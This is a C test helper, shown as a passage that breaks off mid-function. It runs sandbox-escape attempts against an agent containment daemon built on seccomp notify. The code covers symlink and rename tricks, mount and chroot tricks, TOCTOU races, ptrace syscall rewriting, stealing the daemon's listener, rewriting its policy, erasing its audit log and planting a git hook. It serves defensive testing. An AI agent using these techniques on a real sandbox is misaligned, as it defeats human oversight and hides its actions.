// SPDX-License-Identifier: Apache-2.0
/*
 * escape_attack DIR ATTACK [ARGS...]: one escape attempt, run inside an airlock session by
 * tests/integration/test_escape*.c.
 *
 * DIR is laid out by the test:
 *   DIR/target   a file that policy protects ("ORIGINAL\n"); attacks try to write "PWNED"
 *   DIR/targeu   an unprotected file whose name is as long as target's
 *   DIR/absent   a protected name that does not exist; attacks try to create it
 *   DIR/work     the attacker's cwd
 *   DIR/bin/sudo a program policy forbids to exec (escape_marker); DIR/bin/sudx /bin/true
 *
 * Every step prints one line "step: outcome".  The last line is "ESCAPED" when some
 * protected operation went through as far as the attacker can tell, "HELD" otherwise.
 * The test does not trust this verdict alone: it checks the filesystem, the cgroup, the
 * network and the daemon.
 */
#include <errno.h>
#include <limits.h>
#include <fcntl.h>
#include <linux/openat2.h>
#include <linux/sched.h>
#include <linux/userfaultfd.h>
#include <linux/seccomp.h>
#include <linux/filter.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <arpa/inet.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <poll.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/user.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#ifndef __X32_SYSCALL_BIT
#define __X32_SYSCALL_BIT 0x40000000
#endif

static char D[PATH_MAX], T[PATH_MAX + 16], U[PATH_MAX + 16], A[PATH_MAX + 16], W[PATH_MAX + 16];
static bool escaped;

static void say(const char *step, int r)
{
	const char *name = strerrorname_np(errno);

	if (r >= 0)
		printf("%s: ok\n", step);
	else
		printf("%s: %s\n", step, name ? name : "?");
	fflush(stdout);
}

static long now_ms(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * 1000L + ts.tv_nsec / 1000000;
}

/* Is fd the protected file?  Only then does a write count as an escape. */
static bool fd_is(int fd, const char *path)
{
	char link[64], got[PATH_MAX];
	struct stat a, b;
	ssize_t n;

	snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
	n = readlink(link, got, sizeof(got) - 1);
	if (n < 0)
		return false;
	got[n] = '\0';
	if (strcmp(got, path) == 0)
		return true;
	/* another name of the same inode (a hard link, a bind mount) */
	return fstat(fd, &a) == 0 && stat(path, &b) == 0 && a.st_dev == b.st_dev &&
	       a.st_ino == b.st_ino;
}

/* An open that the gate should have refused: write through it if it was not. */
static void pwn_fd(const char *step, int fd)
{
	say(step, fd);
	if (fd < 0)
		return;
	if (fd_is(fd, T) || fd_is(fd, A)) {
		if (write(fd, "PWNED\n", 6) == 6) {
			printf("%s: wrote the protected file\n", step);
			escaped = true;
		}
	}
	close(fd);
}

static void pwn_ret(const char *step, int r)
{
	say(step, r);
	if (r >= 0)
		escaped = true;
}

static int put_file(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	ssize_t n;

	if (fd < 0)
		return -1;
	n = write(fd, text, strlen(text));
	close(fd);
	return n == (ssize_t)strlen(text) ? 0 : -1;
}

static int openat2_call(int dirfd, const char *path, uint64_t flags, uint64_t resolve)
{
	struct open_how how = { .flags = flags, .resolve = resolve };

	return (int)syscall(SYS_openat2, dirfd, path, &how, sizeof(how));
}

/* ---- writes to a protected file ------------------------------------------------- */

static void attack_paths(void)
{
	char p[PATH_MAX * 2 + 64];
	int dfd, pfd;

	pwn_fd("absolute", open(T, O_WRONLY | O_CLOEXEC));
	pwn_fd("relative ../target", open("../target", O_WRONLY | O_CLOEXEC));
	snprintf(p, sizeof(p), "%s/../work/./../target", W);
	pwn_fd("dotdot", open(p, O_WRONLY | O_CLOEXEC));
	snprintf(p, sizeof(p), "%s//./target", D);
	pwn_fd("double slash", open(p, O_RDWR | O_CLOEXEC));
	dfd = open(D, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	pwn_fd("dirfd", openat(dfd, "target", O_WRONLY | O_CLOEXEC));
	pwn_fd("dirfd O_APPEND", openat(dfd, "./target", O_WRONLY | O_APPEND | O_CLOEXEC));
	pfd = open(T, O_PATH | O_CLOEXEC);
	snprintf(p, sizeof(p), "/proc/self/fd/%d", pfd);
	pwn_fd("/proc/self/fd of O_PATH", open(p, O_WRONLY | O_CLOEXEC));
	snprintf(p, sizeof(p), "/dev/fd/%d", pfd);
	pwn_fd("/dev/fd of O_PATH", open(p, O_WRONLY | O_CLOEXEC));
	snprintf(p, sizeof(p), "/proc/%d/fd/%d", (int)getpid(), pfd);
	pwn_fd("/proc/PID/fd of O_PATH", open(p, O_WRONLY | O_CLOEXEC));
	pwn_fd("/proc/self/cwd/..", open("/proc/self/cwd/../target", O_WRONLY | O_CLOEXEC));
	pwn_fd("/proc/thread-self/cwd/..",
	       open("/proc/thread-self/cwd/../target", O_WRONLY | O_CLOEXEC));
	snprintf(p, sizeof(p), "/proc/self/root%s", T);
	pwn_fd("/proc/self/root", open(p, O_WRONLY | O_CLOEXEC));
	snprintf(p, sizeof(p), "/proc/self/fd/%d/target", dfd);
	pwn_fd("/proc/self/fd/DIR/target", open(p, O_WRONLY | O_CLOEXEC));
	/* a symlink whose text names the protected file is itself refused (the text is
	 * matched as the link's second end); a relative text is not a protected name */
	pwn_ret("symlink with the protected name as text", symlink(T, "ln"));
	if (symlink("../target", "rln") == 0)
		pwn_fd("relative symlink to target", open("rln", O_WRONLY | O_CLOEXEC));
	else
		say("relative symlink", -1);
	if (symlink(D, "dl") == 0)
		pwn_fd("symlinked dir", open("dl/target", O_WRONLY | O_CLOEXEC));
	if (symlink("..", "up") == 0)
		pwn_fd("symlink to .. then target", open("up/target", O_WRONLY | O_CLOEXEC));
	if (symlink("/proc/self/cwd/../target", "pl") == 0)
		pwn_fd("symlink through /proc/self/cwd", open("pl", O_WRONLY | O_CLOEXEC));
	pwn_fd("openat2 RESOLVE_BENEATH",
	       openat2_call(dfd, "target", O_WRONLY | O_CLOEXEC, RESOLVE_BENEATH));
	pwn_fd("openat2 RESOLVE_IN_ROOT /target",
	       openat2_call(dfd, "/target", O_WRONLY | O_CLOEXEC, RESOLVE_IN_ROOT));
	pwn_fd("openat2 RESOLVE_IN_ROOT ../../target",
	       openat2_call(dfd, "../../target", O_WRONLY | O_CLOEXEC, RESOLVE_IN_ROOT));
	pwn_fd("openat2 plain", openat2_call(AT_FDCWD, "../target", O_RDWR | O_CLOEXEC, 0));
	pwn_fd("O_TRUNC read-only", open(T, O_RDONLY | O_TRUNC | O_CLOEXEC));
	pwn_fd("creat", creat(T, 0644));
	pwn_ret("truncate", truncate(T, 0));
	pwn_ret("truncate relative", truncate("../target", 1));
	close(pfd);
	close(dfd);
}

static void attack_names(void)
{
	char p[PATH_MAX + 64];
	int fd;

	/* a second name for the same inode, then write through it */
	if (link(T, "hl") == 0) {
		say("hard link", 0);
		pwn_fd("write via hard link", open("hl", O_WRONLY | O_CLOEXEC));
	} else {
		say("hard link", -1);
	}
	/* move it away, write, move it back */
	if (rename(T, "moved") == 0) {
		say("rename away", 0);
		fd = open("moved", O_WRONLY | O_CLOEXEC);
		if (fd >= 0) {
			if (write(fd, "PWNED\n", 6) == 6)
				escaped = true;
			close(fd);
		}
		pwn_ret("rename back", rename("moved", T));
	} else {
		say("rename away", -1);
	}
	put_file("evil", "PWNED\n");
	pwn_ret("rename over", rename("evil", T));
	pwn_ret("RENAME_EXCHANGE",
		(int)syscall(SYS_renameat2, AT_FDCWD, "evil", AT_FDCWD, T, RENAME_EXCHANGE));
	pwn_ret("link over absent", link("evil", A));
	pwn_ret("symlink at absent", symlink("/etc/passwd", A));
	pwn_ret("mknod absent", mknod(A, S_IFREG | 0644, 0));
	pwn_ret("mkfifo absent", mkfifo(A, 0644));
	pwn_fd("creat absent", creat(A, 0644));
	pwn_fd("O_CREAT|O_EXCL absent", open(A, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644));
	/* O_CREAT through a dangling symlink creates its target */
	if (symlink("../absent", "dangling") == 0)
		pwn_fd("O_CREAT through a dangling symlink",
		       open("dangling", O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
	else
		say("dangling symlink", -1);

	/* O_TMPFILE in the protected directory, then give it the protected name */
	fd = open(D, O_TMPFILE | O_WRONLY | O_CLOEXEC, 0644);
	say("O_TMPFILE in DIR", fd);
	if (fd >= 0) {
		if (write(fd, "PWNED\n", 6) != 6)
			say("O_TMPFILE write", -1);
		snprintf(p, sizeof(p), "/proc/self/fd/%d", fd);
		pwn_ret("linkat /proc/self/fd AT_SYMLINK_FOLLOW to absent",
			linkat(AT_FDCWD, p, AT_FDCWD, A, AT_SYMLINK_FOLLOW));
		pwn_ret("linkat AT_EMPTY_PATH to absent",
			linkat(fd, "", AT_FDCWD, A, AT_EMPTY_PATH));
		close(fd);
	}
}

/* open_by_handle_at: a handle names the inode, not a path */
static void attack_handle(void)
{
	struct {
		struct file_handle fh;
		unsigned char buf[128];
	} h;
	int mount_id, mfd;

	h.fh.handle_bytes = sizeof(h.buf);
	if (name_to_handle_at(AT_FDCWD, T, &h.fh, &mount_id, 0) < 0) {
		say("name_to_handle_at", -1);
		return;
	}
	mfd = open(D, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	pwn_fd("open_by_handle_at O_WRONLY",
	       (int)syscall(SYS_open_by_handle_at, mfd, &h.fh, O_WRONLY | O_CLOEXEC));
	close(mfd);
}

/* A bind mount gives the protected inode an unprotected name (root, or a user namespace). */
static void attack_mount(void)
{
	put_file("bindme", "x\n");
	if (unshare(CLONE_NEWNS) < 0) {
		say("unshare(CLONE_NEWNS)", -1);
		return;
	}
	mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL);
	if (mount(T, "bindme", NULL, MS_BIND, NULL) < 0) {
		say("bind mount", -1);
	} else {
		say("bind mount", 0);
		pwn_fd("write via bind mount", open("bindme", O_WRONLY | O_CLOEXEC));
	}
	/* the new mount API: a detached clone of the file's mount, attached elsewhere */
	put_file("bindme2", "x\n");
	int tree = (int)syscall(SYS_open_tree, AT_FDCWD, T, OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC);

	say("open_tree", tree);
	if (tree < 0)
		return;
	if (syscall(SYS_move_mount, tree, "", AT_FDCWD, "bindme2", MOVE_MOUNT_F_EMPTY_PATH) < 0) {
		say("move_mount", -1);
	} else {
		say("move_mount", 0);
		pwn_fd("write via move_mount", open("bindme2", O_WRONLY | O_CLOEXEC));
	}
	close(tree);
}

/* An allowed open of a FIFO with no reader: whoever performs the open waits for one.  The
 * attacker blocks; airlockd must not block with it. */
static void attack_fifo(void)
{
	if (mkfifo("fifo", 0666) < 0) {
		say("mkfifo", -1);
		return;
	}
	printf("opening the fifo for writing\n");
	fflush(stdout);
	pwn_fd("fifo open", open("fifo", O_WRONLY | O_CLOEXEC));
}

/* The path of a gated open lies in a page that userfaultfd holds back (root: faults from
 * the kernel are handled too).  Whoever reads it waits for the attacker, which never
 * answers: airlockd must not be that reader in its one loop. */
static void attack_uffd(void)
{
	struct uffdio_api api = { .api = UFFD_API };
	struct uffdio_register reg = { .mode = UFFDIO_REGISTER_MODE_MISSING };
	int uffd = (int)syscall(SYS_userfaultfd, O_CLOEXEC);
	char *area;

	say("userfaultfd(2)", uffd);
	if (uffd < 0) {
		/* the device (5.11) hands out the same thing */
		int dev = open("/dev/userfaultfd", O_RDWR | O_CLOEXEC);

		say("open /dev/userfaultfd", dev);
		if (dev >= 0) {
			uffd = ioctl(dev, USERFAULTFD_IOC_NEW, O_CLOEXEC);
			close(dev);
		}
	}
	if (uffd < 0 || ioctl(uffd, UFFDIO_API, &api) < 0) {
		say("userfaultfd", -1);
		return;
	}
	area = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	reg.range.start = (uintptr_t)area;
	reg.range.len = 4096;
	if (area == MAP_FAILED || ioctl(uffd, UFFDIO_REGISTER, &reg) < 0) {
		say("UFFDIO_REGISTER", -1);
		return;
	}
	printf("opening a path in a userfaultfd page\n");
	fflush(stdout);
	pwn_fd("open of a held-back path", open(area, O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
}

/* chroot into the protected file's directory: the file is now "/target".  Unprivileged,
 * a user namespace grants CAP_SYS_CHROOT. */
static void attack_chroot(void)
{
	int fd;

	if (geteuid() != 0 && unshare(CLONE_NEWUSER) < 0) {
		say("unshare(CLONE_NEWUSER)", -1);
		return;
	}
	if (chroot(D) < 0 || chdir("/") < 0) {
		say("chroot", -1);
		return;
	}
	say("chroot", 0);
	fd = open("/target", O_WRONLY | O_CLOEXEC);
	say("open /target in the chroot", fd);
	if (fd >= 0) {
		if (write(fd, "PWNED\n", 6) == 6) {
			printf("wrote the protected file\n");
			escaped = true;
		}
		close(fd);
	}
	fd = open("/absent", O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
	pwn_ret("create /absent in the chroot", fd);
	if (fd >= 0)
		close(fd);
}

/* Root kills airlockd, then tries the protected write: with no one on the listener the
 * kernel must fail the call, never let it through. */
/* Kill airlockd (refused by the hardening), then wait for it to be gone anyway -- the test
 * kills it from outside -- and try the protected file: once the listener is gone the
 * kernel must fail what was gated (ENOSYS), never let it through.  3 s at most. */
static void attack_kill_daemon(pid_t daemon)
{
	int fd = -1;

	say("kill airlockd", kill(daemon, SIGKILL));
	for (int i = 0; i < 60; i++) {
		fd = open(T, O_WRONLY | O_CLOEXEC);
		if (fd >= 0 || errno == ENOSYS)
			break;
		usleep(50 * 1000);
	}
	pwn_fd("open the protected file with airlockd gone", fd);
}

static int write_pid(const char *procs);

/* Erase the audit trail: a denied attempt first (so there is a record), then truncate
 * the daemon's audit log, then unlink it. */
static void attack_audit(const char *cgdir, const char *audit)
{
	char procs[PATH_MAX + 32];

	snprintf(procs, sizeof(procs), "%s/cgroup.procs", cgdir);
	say("move to another cgroup (to be audited)", write_pid(procs));
	usleep(100 * 1000);
	pwn_ret("truncate the audit log", truncate(audit, 0));
	pwn_fd("open the audit log O_TRUNC", open(audit, O_WRONLY | O_TRUNC | O_CLOEXEC));
	pwn_ret("unlink the audit log", unlink(audit));
}

/* ---- races ------------------------------------------------------------------------- */

static volatile char *flip_at;
static volatile bool flip_stop;

static void *flipper(void *arg)
{
	volatile char *c = flip_at;

	(void)arg;
	while (!flip_stop) {
		*c = 't';
		*c = 'u';
	}
	return NULL;
}

/* Opens path with flags for up to 1.5 s (4000 tries at most) while flip runs in a thread,
 * writes into whatever turns out to be the protected file, and prints what it got. */
static void race_open(const char *what, const char *path, int flags, void *(*flip)(void *))
{
	pthread_t th;
	long end = now_ms() + 1500;
	int i, got = 0;

	pthread_create(&th, NULL, flip, NULL);
	for (i = 0; i < 4000 && now_ms() < end; i++) {
		int fd = open(path, flags);

		if (fd < 0)
			continue;
		got++;
		if (fd_is(fd, T)) {
			if (write(fd, "PWNED\n", 6) == 6)
				escaped = true;
			printf("race: opened the protected file on try %d\n", i);
		}
		close(fd);
	}
	flip_stop = true;
	pthread_join(th, NULL);
	printf("race %s: %d tries, %d allowed opens\n", what, i, got);
}

/* The path buffer flips between DIR/targeu (allowed) and DIR/target while a thread opens. */
static void attack_race_buf(void)
{
	static char buf[PATH_MAX + 16];

	snprintf(buf, sizeof(buf), "%s", U);
	flip_at = buf + strlen(buf) - 1;
	race_open("path buffer", buf, O_WRONLY | O_CLOEXEC, flipper);
}

static void *swapper(void *arg)
{
	(void)arg;
	while (!flip_stop)
		syscall(SYS_renameat2, AT_FDCWD, "lnk", AT_FDCWD, "alt", RENAME_EXCHANGE);
	return NULL;
}

/* work/lnk swaps between a symlink to DIR/targeu and one to DIR/target. */
static void attack_race_symlink(void)
{
	if (symlink("../targeu", "lnk") < 0 || symlink("../target", "alt") < 0) {
		say("race symlinks", -1);
		return;
	}
	race_open("symlink", "lnk", O_WRONLY | O_CLOEXEC, swapper);
}

/* A tracer turns an ungated syscall into a gated one after seccomp saw it: the child's
 * own filter returns SECCOMP_RET_TRACE for getppid, and at that stop the tracer rewrites
 * the syscall number to openat (the arguments are already in place). */
static void attack_trace_rewrite(void)
{
	struct sock_filter f[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_getppid, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_TRACE),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog prog = { .len = 4, .filter = f };
	struct user_regs_struct regs;
	int status, stops = 0;
	pid_t pid = fork();

	if (pid == 0) {
		long fd;

		ptrace(PTRACE_TRACEME, 0, NULL, NULL);
		raise(SIGSTOP);
		if (syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &prog) < 0)
			_exit(3);
		fd = syscall(SYS_getppid, AT_FDCWD, T, O_WRONLY | O_CLOEXEC, 0);
		if (fd >= 0 && fd_is((int)fd, T) && write((int)fd, "PWNED\n", 6) == 6)
			_exit(0);
		_exit(1);
	}
	waitpid(pid, &status, 0);
	ptrace(PTRACE_SETOPTIONS, pid, NULL, (void *)(PTRACE_O_TRACESECCOMP | PTRACE_O_EXITKILL));
	ptrace(PTRACE_CONT, pid, NULL, NULL);
	while (waitpid(pid, &status, 0) == pid && WIFSTOPPED(status)) {
		if ((status >> 8) == (SIGTRAP | (PTRACE_EVENT_SECCOMP << 8))) {
			ptrace(PTRACE_GETREGS, pid, NULL, &regs);
			regs.orig_rax = SYS_openat;
			ptrace(PTRACE_SETREGS, pid, NULL, &regs);
			stops++;
		}
		ptrace(PTRACE_CONT, pid, NULL, NULL);
	}
	printf("seccomp trace stops: %d\n", stops);
	if (WIFEXITED(status) && WEXITSTATUS(status) == 0) {
		printf("rewritten syscall wrote the protected file\n");
		escaped = true;
	} else {
		printf("rewritten syscall: child exit %d\n",
		       WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status));
	}
}

static void *asked_open(void *arg)
{
	(void)arg;
	pwn_fd("asked O_TRUNC open of rd/target",
	       open("rd/target", O_WRONLY | O_TRUNC | O_CLOEXEC));
	return NULL;
}

/* While an open waits for a human, a directory on its path becomes a symlink to the
 * protected directory.  Whatever opens after the approval must not follow it. */
static void attack_ask_swap(void)
{
	pthread_t th;

	/* work/rd/target exists already: the test made it (creating it here would ask) */
	pthread_create(&th, NULL, asked_open, NULL);
	usleep(300 * 1000);
	say("rename rd away", rename("rd", "rd.old"));
	say("symlink rd -> ..", symlink("..", "rd"));
	put_file("swapped", "1\n");
	pthread_join(th, NULL);
}

static int reopen_t = -1, reopen_del = -1;

static void *fdswapper(void *arg)
{
	(void)arg;
	while (!flip_stop) {
		dup2(reopen_t, 100);
		dup2(reopen_del, 100);
	}
	return NULL;
}

/* fd 100 flips between a deleted file (no name: airlockd re-opens it through
 * /proc/TID/fd/100) and an O_PATH fd of the protected file, while a thread opens
 * /proc/self/fd/100 with O_TRUNC.  dup2 is never gated. */
static void attack_race_reopen(void)
{
	reopen_t = open(T, O_PATH | O_CLOEXEC);
	if (put_file("del", "deleted\n") < 0 || (reopen_del = open("del", O_RDONLY)) < 0 ||
	    unlink("del") < 0 || reopen_t < 0) {
		say("race set-up", -1);
		return;
	}
	dup2(reopen_del, 100);
	race_open("reopen", "/proc/self/fd/100", O_WRONLY | O_TRUNC | O_CLOEXEC, fdswapper);
}

/* A rule on a tree (DIR/prot and all below): rename the tree's root away, write inside it under the
 * new name, rename it back. */
static void attack_rename_tree(void)
{
	char prot[PATH_MAX + 16], file[PATH_MAX + 32];
	int fd;

	snprintf(prot, sizeof(prot), "%s/prot", D);
	snprintf(file, sizeof(file), "%s/prot/file", D);
	pwn_fd("write inside the tree", open(file, O_WRONLY | O_CLOEXEC));
	if (rename(prot, "px") < 0) {
		say("rename the tree away", -1);
		return;
	}
	say("rename the tree away", 0);
	fd = open("px/file", O_WRONLY | O_TRUNC | O_CLOEXEC);
	say("write under the new name", fd);
	if (fd >= 0) {
		if (write(fd, "PWNED\n", 6) == 6)
			escaped = true;
		close(fd);
	}
	say("rename the tree back", rename("px", prot));
}

/* The default's git-hooks rule (any .git/hooks/ entry): rename the hooks directory away,
 * write a hook under the new name, rename it back.  The hook runs at the human's next
 * commit, outside the session. */
static void attack_rename_hooks(void)
{
	int fd;

	if (rename("repo/.git/hooks", "repo/.git/h") < 0) {
		say("rename hooks away", -1);
		return;
	}
	say("rename hooks away", 0);
	fd = open("repo/.git/h/pre-commit", O_WRONLY | O_CREAT | O_CLOEXEC, 0755);
	say("write the hook under the new name", fd);
	if (fd >= 0) {
		if (write(fd, "#!/bin/sh\ntouch /tmp/pwned\n", 27) == 27)
			escaped = true;
		close(fd);
	}
	say("rename hooks back", rename("repo/.git/h", "repo/.git/hooks"));
}

/* Root rewrites the daemon's policy file to allow everything and asks for a reload
 * (signals are not gated), then runs the program that needed an ask. */
static void attack_policy_rewrite(const char *policy, pid_t daemon)
{
	char sudo[PATH_MAX + 32];
	int status = 0;
	pid_t pid;

	pwn_ret("rewrite the policy file", put_file(policy, "version: 1\nrules: []\n"));
	say("SIGHUP airlockd", kill(daemon, SIGHUP));
	usleep(300 * 1000);
	snprintf(sudo, sizeof(sudo), "%s/bin/sudo", D);
	pid = fork();
	if (pid == 0) {
		int null = open("/dev/null", O_RDWR);

		dup2(null, 1);
		execl(sudo, "sudo", (char *)NULL);
		_exit(126);
	}
	/* an ask that is still asked blocks here until the test denies it */
	waitpid(pid, &status, 0);
	printf("sudo after the reload: exit %d\n", WIFEXITED(status) ? WEXITSTATUS(status) : -1);
}

/* Root stops airlockd (signals are not gated), takes its copy of the session's seccomp
 * listener with pidfd_getfd and answers the session's own notifications with CONTINUE. */
static void attack_steal_listener(pid_t daemon)
{
	int pidfd, fd, listener = -1, status = 0;
	pid_t child;

	pidfd = (int)syscall(SYS_pidfd_open, daemon, 0);
	if (pidfd < 0) {
		say("pidfd_open(airlockd)", -1);
		return;
	}
	for (fd = 0; fd < 512 && listener < 0; fd++) {
		char link[64], target[64];
		ssize_t n;
		int h = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);

		if (h < 0) {
			if (errno != EBADF) {
				say("pidfd_getfd(airlockd)", -1);
				break;
			}
			continue;
		}
		snprintf(link, sizeof(link), "/proc/self/fd/%d", h);
		n = readlink(link, target, sizeof(target) - 1);
		target[n > 0 ? n : 0] = '\0';
		if (strcmp(target, "anon_inode:seccomp notify") == 0)
			listener = h;
		else
			close(h);
	}
	close(pidfd);
	if (listener < 0) {
		printf("no listener taken\n");
		return;
	}
	printf("took airlockd's listener\n");
	say("SIGSTOP airlockd", kill(daemon, SIGSTOP));
	child = fork();
	if (child == 0) {
		int t = open(T, O_WRONLY | O_CLOEXEC);

		_exit(t >= 0 && write(t, "PWNED\n", 6) == 6 ? 0 : 1);
	}
	for (int i = 0; i < 50; i++) {
		struct seccomp_notif req;
		struct seccomp_notif_resp resp;
		struct pollfd p = { .fd = listener, .events = POLLIN };

		if (waitpid(child, &status, WNOHANG) == child) {
			child = -1;
			break;
		}
		if (poll(&p, 1, 20) != 1)
			continue;
		memset(&req, 0, sizeof(req));
		if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &req) < 0)
			continue;
		memset(&resp, 0, sizeof(resp));
		resp.id = req.id;
		resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
		ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &resp);
		printf("answered syscall %d of pid %u with CONTINUE\n", req.data.nr, req.pid);
	}
	if (child > 0)
		waitpid(child, &status, 0);
	say("SIGCONT airlockd", kill(daemon, SIGCONT));
	if (WIFEXITED(status) && WEXITSTATUS(status) == 0) {
		printf("wrote the protected file past the gate\n");
		escaped = true;
	}
}

/* Does the agent itself, or its launcher (same uid, outside the session), hold a seccomp
 * listener?  Either would let the agent answer its own notifications. */
static void attack_find_listener(void)
{
	int pidfd = (int)syscall(SYS_pidfd_open, getppid(), 0), fd;

	for (fd = 0; fd < 1024; fd++) {
		char link[64], target[64];
		ssize_t n;

		snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
		n = readlink(link, target, sizeof(target) - 1);
		if (n > 0) {
			target[n] = '\0';
			if (strcmp(target, "anon_inode:seccomp notify") == 0) {
				printf("the agent holds a listener at fd %d\n", fd);
				escaped = true;
			}
		}
		if (pidfd >= 0) {
			int h = (int)syscall(SYS_pidfd_getfd, pidfd, fd, 0);

			if (h < 0)
				continue;
			snprintf(link, sizeof(link), "/proc/self/fd/%d", h);
			n = readlink(link, target, sizeof(target) - 1);
			close(h);
			if (n > 0) {
				target[n] = '\0';
				if (strcmp(target, "anon_inode:seccomp notify") == 0) {
					printf("the launcher holds a listener at fd %d\n", fd);
					escaped = true;
				}
			}
		}
	}
	say("pidfd_open(launcher)", pidfd);
}

/* Hold as many API connections as airlockd takes, then wait to be killed. */
static void attack_api_flood(const char *sock)
{
	struct sockaddr_un sa = { .sun_family = AF_UNIX };
	int i, n = 0;

	snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", sock);
	for (i = 0; i < 1500; i++) {
		int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

		if (fd < 0)
			break;
		if (connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
			close(fd);
			break;
		}
		n++;
	}
	printf("holding %d API connections\n", n);
	fflush(stdout);
	put_file("flooded", "1\n");
	pause();
}

/* ---- foreign syscall ABIs ----------------------------------------------------------- */

/* x32: the same syscall table bit-or'ed with 0x40000000, same audit arch */
static void attack_x32(void)
{
	long r = syscall(__X32_SYSCALL_BIT | SYS_openat, AT_FDCWD, T, O_WRONLY, 0);

	pwn_fd("x32 openat", (int)r);
}

/* int 0x80: the i386 table (open = 5), a 32-bit pointer */
static void attack_int80(void)
{
	char *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
			 MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	long r;

	if (low == MAP_FAILED) {
		say("mmap MAP_32BIT", -1);
		return;
	}
	snprintf(low, 4096, "%.4000s", T);
	printf("int 0x80 open: trying\n");
	fflush(stdout);
	__asm__ volatile("int $0x80"
			 : "=a"(r)
			 : "a"(5), "b"(low), "c"(O_WRONLY), "d"(0)
			 : "memory");
	if (r < 0) {
		errno = (int)-r;
		r = -1;
	}
	pwn_fd("int 0x80 open", (int)r);
}

/* ---- the gate's own integrity ------------------------------------------------------ */

static void attack_listener(void)
{
	struct sock_filter allow = BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW);
	struct sock_fprog prog = { .len = 1, .filter = &allow };
	long r;

	r = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &prog);
	pwn_ret("seccomp NEW_LISTENER", (int)r);
	/* garbage in the upper half of the registers must not hide the flag */
	r = syscall(SYS_seccomp, 0xdead000000000000UL | SECCOMP_SET_MODE_FILTER,
		    0xbeef000000000000UL | SECCOMP_FILTER_FLAG_NEW_LISTENER, &prog);
	pwn_ret("seccomp NEW_LISTENER high bits", (int)r);
	r = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER,
		    SECCOMP_FILTER_FLAG_NEW_LISTENER | SECCOMP_FILTER_FLAG_TSYNC_ESRCH |
			    SECCOMP_FILTER_FLAG_TSYNC,
		    &prog);
	pwn_ret("seccomp NEW_LISTENER|TSYNC", (int)r);
	/* a plain filter stays allowed (agents sandbox their tools) */
	r = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &prog);
	say("plain seccomp filter", (int)r);
}

static void attack_uring(void)
{
	unsigned char params[120];

	memset(params, 0, sizeof(params));
	pwn_ret("io_uring_setup", (int)syscall(SYS_io_uring_setup, 4, params));
}

/* ---- cgroups -------------------------------------------------------------------------- */

static void print_cgroup(const char *who)
{
	char buf[512];
	int fd = open("/proc/self/cgroup", O_RDONLY | O_CLOEXEC);
	ssize_t n;

	n = fd >= 0 ? read(fd, buf, sizeof(buf) - 1) : -1;
	if (fd >= 0)
		close(fd);
	if (n < 0)
		n = 0;
	buf[n] = '\0';
	/* the unified line: 0::/path */
	char *l = strstr(buf, "0::");
	if (l)
		*strchrnul(l, '\n') = '\0';
	printf("%s cgroup: %s\n", who, l ? l + 3 : "?");
	fflush(stdout);
}

static int write_pid(const char *procs)
{
	char buf[32];
	int fd = open(procs, O_WRONLY | O_CLOEXEC), n;

	if (fd < 0)
		return -1;
	n = snprintf(buf, sizeof(buf), "%d\n", (int)getpid());
	if (write(fd, buf, (size_t)n) != n) {
		int e = errno;
		close(fd);
		errno = e;
		return -1;
	}
	close(fd);
	return 0;
}

static void attack_cgroup_move(const char *cgdir)
{
	char procs[PATH_MAX + 32], p[PATH_MAX + 64];
	int dfd;

	snprintf(procs, sizeof(procs), "%s/cgroup.procs", cgdir);
	pwn_ret("write cgroup.procs", write_pid(procs));
	snprintf(p, sizeof(p), "%s/cgroup.threads", cgdir);
	pwn_ret("write cgroup.threads", write_pid(p));
	dfd = open(cgdir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	if (dfd >= 0) {
		int fd = openat(dfd, "cgroup.procs", O_WRONLY | O_CLOEXEC);

		if (fd >= 0) {
			snprintf(p, sizeof(p), "%d\n", (int)getpid());
			pwn_ret("write cgroup.procs via dirfd", (int)write(fd, p, strlen(p)));
			close(fd);
		} else {
